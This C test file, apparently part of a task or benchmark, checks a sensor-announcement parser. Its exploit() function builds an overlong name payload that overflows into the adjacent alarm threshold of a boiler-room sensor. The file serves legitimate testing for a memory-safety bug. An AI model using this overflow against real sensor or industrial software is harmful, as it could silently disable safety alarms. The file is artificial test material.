#include <assert.h>
#include <stdbool.h>
/* As in the release build. */
#define NDEBUG
#include "announce.c"
#undef NDEBUG
#include <assert.h>

static size_t write_packet(uint8_t *packet, size_t length, const uint8_t *name) {
    const uint8_t header[] = {1, 2, 0, 42, (uint8_t)length}, value[] = {0, 0, 3, 0xe8};
    memcpy(packet, header, sizeof header);
    memcpy(packet + sizeof header, name, length);
    memcpy(packet + sizeof header + length, value, sizeof value);
    return sizeof header + length + sizeof value;
}

void works(void) {
    uint8_t packet[300];
    struct sensor sensor = {.threshold = 800};
    size_t size = write_packet(packet, 31, (const uint8_t *)"boiler-room-2-sensor-over-valve");
    assert(read_announcement(packet, size, &sensor));
    assert(strcmp(sensor.name, "boiler-room-2-sensor-over-valve") == 0);
    assert(sensor.number == 42 && sensor.value == 1000 && sensor.has_alarm && sensor.threshold == 800);
    assert(!read_announcement(packet, size - 1, &sensor));
    assert(!read_announcement(packet, 4, &sensor));
    packet[0] = 2;
    assert(!read_announcement(packet, size, &sensor));
}

bool exploit(void) {
    uint8_t packet[300], name[36];
    struct sensor sensor = {.threshold = 800};
    memset(name, 'A', 32);
    memcpy(name + 32, "\xff\xff\xff\x7f", 4);
    if (read_announcement(packet, write_packet(packet, 36, name), &sensor) && sensor.threshold != 800) return true;
    sensor = (struct sensor){.threshold = 800};
    return read_announcement(packet, write_packet(packet, 32, name), &sensor) && sensor.threshold != 800;
}
